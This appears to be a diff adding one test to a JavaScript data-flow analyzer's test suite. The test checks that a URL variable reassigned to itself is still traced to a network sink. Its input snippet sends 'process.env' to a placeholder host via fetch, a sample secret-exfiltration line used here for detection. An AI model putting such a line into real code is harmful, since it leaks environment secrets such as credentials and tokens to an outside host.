@@ -264,6 +264,14 @@ test('an import recovered from broken text may bind no name', () => {
     expect(analyzeJs(text).mode).toBe('loose');
 });
 
+test('an address that holds itself is followed to an end', () => {
+  const { problem, flow } = analyzeJs(
+    "let url = 'https://a.test/';\nurl = new URL(url);\nfetch(url, { body: process.env });\n",
+  );
+  expect(problem).toBeNull();
+  expect(flow.flows.some(({ sink }) => sink === 'network')).toBe(true);
+});
+
 describe('glue', () => {
   const code = `const a = require('./a'); require('./b').send(a.all());`;
 
